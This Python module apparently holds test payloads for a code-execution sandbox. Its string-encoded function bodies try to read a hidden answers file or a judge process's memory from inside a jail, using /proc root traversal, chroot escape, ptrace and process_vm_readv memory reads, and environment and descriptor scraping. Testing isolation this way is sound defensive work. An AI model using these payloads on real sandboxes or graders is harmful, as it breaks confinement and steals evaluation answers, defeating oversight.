"""What an attacker does inside a jail to read what it must not: bodies of `f(x)`, sent in as text and never run here.

Covers: files by every road to a path, other processes, its own memory and what its parent left there, what it inherited.
Does not cover: faults of the machine's own kernel; side channels.
"""

__all__ = ["EARLIER", "FOUND", "INHERITED", "MEMORY", "PATHS", "RECALL", "SEARCH", "STAT", "UPWARDS"]

PATHS = {
    "open": "return open(x).read()",
    "os.open": "return os.read(os.open(x, os.O_RDONLY), 4096).decode()",
    "a memory map": "import mmap\nwith open(x, 'rb') as file:\n    return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:].decode()",
    "linecache": "import linecache\nreturn ''.join(linecache.getlines(x))",
    "an import": "from importlib.machinery import SourceFileLoader\nreturn SourceFileLoader('a', x).get_data(x).decode()",
    "the C library": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nroom = ctypes.create_string_buffer(4096)\n"
        "n = libc.read(libc.open(x.encode(), 0), room, 4096)\nreturn room.raw[:max(n, 0)].decode()"
    ),
    "a folder's descriptor": (
        "place = os.open(os.path.dirname(x), os.O_RDONLY | os.O_DIRECTORY)\n"
        "return os.read(os.open('answers.json', os.O_RDONLY, dir_fd=place), 4096).decode()"
    ),
    "its folder as working folder": "os.chdir(os.path.dirname(x))\nreturn open('answers.json').read()",
    "a path-only descriptor": "fd = os.open(x, os.O_PATH)\nreturn open(f'/proc/self/fd/{fd}').read()",
    "sendfile": "with open('out', 'wb') as out:\n    os.sendfile(out.fileno(), os.open(x, 0), 0, 4096)\nreturn open('out').read()",
    "for reading and writing": "return open(x, 'r+').read()",
}
"""`x`: path of the answers."""

UPWARDS = {
    "dots": "return open('../' * 40 + x[0][1:]).read()",
    "dots and back": "return open(os.getcwd() + '/..' * 20 + x[0]).read()",
    "/proc/self/root": "return open('/proc/self/root' + x[0]).read()",
    "/proc/self/cwd": "return open('/proc/self/cwd' + '/..' * 20 + x[0]).read()",
    "/proc/thread-self/root": "return open('/proc/thread-self/root' + x[0]).read()",
    "/proc/self/task": "return open(f'/proc/self/task/{os.getpid()}/root' + x[0]).read()",
    "the root of the first process": "return open('/proc/1/root' + x[0]).read()",
    "the root of its parent": "return open(f'/proc/{os.getppid()}/root' + x[0]).read()",
    "the root of the judge": "return open(f'/proc/{x[1]}/root' + x[0]).read()",
    "the working folder of this process": "return open(f'/proc/{x[2]}/cwd' + '/..' * 20 + x[0]).read()",
    "a descriptor of the root": "os.chdir('/')\nfd = os.open('.', os.O_RDONLY)\nreturn open(f'/proc/self/fd/{fd}' + x[0]).read()",
    "climbing step by step": "for _ in range(60):\n    os.chdir('..')\nreturn open(x[0][1:]).read()",
    "leaving a root": "os.mkdir('r')\nos.chroot('r')\nfor _ in range(60):\n    os.chdir('..')\nos.chroot('.')\nreturn open(x[0]).read()",
}
"""`x`: path of the answers, the judge's process number, the host's."""

FOUND = """
import re


def found(data):
    return " ".join(match.decode() for match in set(re.findall(rb"answer-[0-9a-f]{24}", data)))
"""
"""Helper of the bodies below: what in some bytes looks like an answer. Short, so that it overwrites little of what stood in memory."""

SEARCH = (
    FOUND
    + """
import os
import sys
import zlib


def unpacked(data):
    try:
        return data + zlib.decompress(data)
    except zlib.error:
        return data


def listed(place):
    try:
        with os.scandir(place) as entries:
            known = [(entry.stat(follow_symlinks=False).st_mtime, entry.path, entry.is_dir(follow_symlinks=False)) for entry in entries]
    except OSError:
        return []
    return sorted(known, reverse=True)


def search(places, most):
    # Newest first, every place in turn; names count as well as contents.
    told, seen = "", 0
    queue = [os.path.realpath(place) for place in places]
    known = set(queue)
    while queue and seen < most:
        place = queue.pop(0)
        for _, path, inner in listed(place):
            seen += 1
            told += found(path.encode(errors="replace"))
            if inner and path not in known and not path.startswith(("/proc", "/sys", "/dev/pts")):
                known.add(path)
                queue.append(path)
            elif not inner:
                told += contents(path)
        if told:
            break
    return told


def contents(path):
    try:
        if not os.path.isfile(path) or os.path.getsize(path) > 300_000:
            return ""
        with open(path, "rb") as file:
            return found(unpacked(file.read()))
    except OSError:
        return ""
"""
)
"""Helpers that look into folders, newest first, and unpack what git packs."""

RECALL = (
    FOUND
    + """
def regions(pid):
    with open(f"/proc/{pid}/maps") as lines:
        for line in lines:
            span, rights = line.split()[:2]
            first, last = (int(end, 16) for end in span.split("-"))
            if rights.startswith("rw") and last - first < 1 << 27:
                yield first, last - first


def remembered(pid):
    told = ""
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for first, size in regions(pid):
            try:
                memory.seek(first)
                told += found(memory.read(size))
            except (OSError, OverflowError):
                continue
            if told:
                break
    return told
"""
)
"""Helpers that look into the memory of a process through /proc."""

MEMORY = {
    "environment of the judge": "return found(open(f'/proc/{x[0]}/environ', 'rb').read())",
    "memory of the judge": "return remembered(x[0])",
    "memory of the host": "return remembered(x[1])",
    "memory of its parent": "return remembered(os.getppid())",
    "open files of the judge": (
        "told = ''\nfor fd in sorted(os.listdir(f'/proc/{x[0]}/fd')):\n    if os.path.isfile(f'/proc/{x[0]}/fd/{fd}'):\n"
        "        told += found(open(f'/proc/{x[0]}/fd/{fd}', 'rb').read())\nreturn told"
    ),
    "every process in sight": (
        "told = ''\nfor pid in os.listdir('/proc'):\n    try:\n"
        "        told += found(open(f'/proc/{pid}/environ', 'rb').read()) if pid.isdigit() else ''\n"
        "    except OSError:\n        pass\nreturn told"
    ),
    "process_vm_readv": (
        "import ctypes\nclass Part(ctypes.Structure):\n    _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "told, libc = '', ctypes.CDLL(None)\nfor first, size in regions(x[0]):\n    room = ctypes.create_string_buffer(size)\n"
        "    mine, theirs = Part(ctypes.addressof(room), size), Part(first, size)\n"
        "    libc.process_vm_readv(x[0], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)\n    told += found(room.raw)\nreturn told"
    ),
    "process_vm_readv, blindly": "import ctypes\nreturn str(ctypes.CDLL(None).process_vm_readv(x[0], None, 0, None, 0, 0))",
    "ptrace": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace.argtypes = [ctypes.c_long] * 4\n"
        "if libc.ptrace(16, x[0], 0, 0) == 0:\n    os.waitpid(x[0], 0)\n    told = remembered(x[0])\n"
        "    libc.ptrace(17, x[0], 0, 0)\n    return told"
    ),
    "ptrace of its parent": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace.argtypes = [ctypes.c_long] * 4\nparent = os.getppid()\n"
        "if libc.ptrace(0x4206, parent, 0, 0) == 0 and libc.ptrace(0x4207, parent, 0, 0) == 0:\n    os.waitpid(parent, 0x40000000)\n"
        "    told = remembered(parent)\n    libc.ptrace(17, parent, 0, 0)\n    return told"
    ),
}
"""`x`: process numbers of the judge and the host."""

EARLIER = {
    "frames": (
        "import sys\ntold, frame = '', sys._getframe()\nwhile frame:\n    for space in (frame.f_locals, frame.f_globals):\n"
        "        told += found(repr(list(space.values())).encode(errors='replace'))\n    frame = frame.f_back\nreturn told"
    ),
    "its own memory as a file": (
        "told = ''\nwith open('/proc/self/mem', 'rb', 0) as memory, open('/proc/self/maps') as lines:\n    for line in lines:\n"
        "        first, last = (int(end, 16) for end in line.split()[0].split('-'))\n"
        "        if ' rw' in line and last - first < 1 << 27:\n"
        "            memory.seek(first)\n            told += found(memory.read(last - first))\nreturn told"
    ),
    "the garbage collector": (
        "import gc\ntold = ''\nfor thing in gc.get_objects():\n    for part in gc.get_referents(thing):\n        kind = type(part)\n"
        "        if kind is str:\n            told += found(part.encode(errors='replace'))\n"
        "        elif kind in (bytes, bytearray):\n            told += found(bytes(part))\nreturn told"
    ),
    "all modules": (
        "import sys\ntold = ''\nfor module in list(sys.modules.values()):\n    for value in list(vars(module).values()):\n"
        "        if isinstance(value, (str, bytes, list, tuple, dict)):\n"
        "            told += found(repr(value).encode(errors='replace'))\nreturn told"
    ),
    "every page in reach": """
import ctypes, gc
libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_size_t
libc.write.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_size_t]
out, into = os.pipe()
told, known = '', set()
stack = ctypes.c_size_t.in_dll(libc, 'environ').value
for start in sorted({id(thing) >> 12 for thing in gc.get_objects()} | {(libc.sbrk(0) >> 12) - 1, stack >> 12}):
    for step in (1, -1):
        page = start + min(step, 0)
        while page not in known and len(known) < 60_000:
            known.add(page)
            if libc.write(into, page << 12, 4096) != 4096:
                break
            told += found(os.read(out, 4096))
            page += step
return told
""",
}
"""Nothing is given: what an earlier call was sent, or what the host holds, could still stand somewhere in this process."""

INHERITED = """
import sys
told = ""
held = []
for fd in range(1024):
    try:
        os.fstat(fd)
        held.append(fd)
        told += found(os.pread(fd, 4096, 0)) if fd > 3 else ""
    except OSError:
        pass
told += found(repr(dict(os.environ)).encode())
return {"descriptors": held, "environment": sorted(os.environ), "arguments": sys.argv, "told": told}
"""
"""What a call finds that it did not get for itself: descriptors, environment, arguments."""

_EACH = "def one(path):\n    try:\n        {act}\n        return 'done'\n    except OSError as error:\n        return error.errno\n"
_STEPS = {
    "stat": "os.stat(path)",
    "lstat": "os.lstat(path)",
    "access": "return os.access(path, os.F_OK)",
    "exists": "return os.path.exists(path)",
    "open": "open(path)",
    "a path-only descriptor": "os.open(path, os.O_PATH)",
    "the listing of its folder": "return os.path.basename(path) in os.listdir(os.path.dirname(path))",
    "the working folder": "os.chdir(path)",
    "reading it as a link": "os.readlink(path)",
    "the file system below it": "os.statvfs(path)",
    "a folder of its name": "os.mkdir(path)",
    "a link to it": "os.link(path, os.path.basename(path))",
    "cutting it": "os.truncate(path, 2)",
    "its attributes": "os.listxattr(path)",
    "its real path": "return os.path.realpath(path, strict=True) == path",
    "a path through it": "os.stat(path + '/x')",
}
STAT = {name: (f"{_EACH.format(act=act)}return [one(path) for path in x]") for name, act in _STEPS.items()}
"""`x`: paths, of which some exist."""
